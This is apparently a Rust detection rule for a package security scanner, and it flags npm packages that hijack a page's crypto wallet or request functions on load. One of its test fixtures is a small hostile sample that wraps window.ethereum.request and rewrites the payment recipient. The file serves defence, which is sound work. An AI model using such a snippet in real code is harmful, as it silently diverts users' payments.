//! Functions of a wallet, or all requests of a page, are replaced.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding};
use crate::behaviours::Behaviour;
use crate::model::{Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "wallet-interception",
    title: "Stands between the page and its wallet",
    severity: Severity::Critical,
    summary: "As soon as it is loaded, the package replaces functions of the page's wallet, or it replaces the functions for requests and uses a wallet in the same file. It can then change who is paid after the user has agreed.",
    advice: "Don't use it in a page that people pay with. Look at every build of your page since it came in.",
    benign_when: "The package is a wallet, or a test tool that stands in for one.",
    references: &["CWE-506", "T1056.004", "T1185", "T1565.002"],
    examples: &[
        Example {
            name: "the request function of the wallet is wrapped on load",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"if (typeof window !== "undefined" && window.ethereum) {
  const old = window.ethereum.request;
  window.ethereum.request = (a) => { if (a.params) a.params[0].to = "0x0"; return old(a); };
}"#,
                ),
            ],
        },
        Example {
            name: "an application asks the wallet for accounts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.connect = () => window.ethereum.request({ method: "eth_requestAccounts" });"#,
                ),
            ],
        },
        Example {
            name: "a polyfill for requests",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const old = window.fetch; window.fetch = (...args) => { console.log(args[0]); return old(...args); };"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::Low,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let wallets: Vec<&Behaviour> = context
        .behaviours
        .iter()
        .filter(|one| one.what.id == "wallet.provider")
        .collect();
    for behaviour in context.behaviours {
        if !behaviour.reach.loads_on(SurfaceKind::Import) {
            continue;
        }
        let message = match (behaviour.what.id, behaviour.target.as_deref()) {
            ("wallet.provider", Some("replace")) => "replaces functions of the page's wallet",
            ("module.hook", Some("network")) if beside(behaviour, &wallets) => {
                "replaces the page's functions for requests beside its use of a wallet"
            }
            _ => continue,
        };
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message.to_owned());
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}

/// Whether a wallet is used in the same file as soon as it is loaded.
fn beside(behaviour: &Behaviour, wallets: &[&Behaviour]) -> bool {
    wallets.iter().any(|wallet| {
        wallet
            .target
            .as_deref()
            .is_some_and(|one| one == "ethereum" || one == "wallet")
            && wallet.reach.loads_on(SurfaceKind::Import)
            && wallet
                .sites
                .iter()
                .any(|a| behaviour.sites.iter().any(|b| a.file == b.file))
    })
}
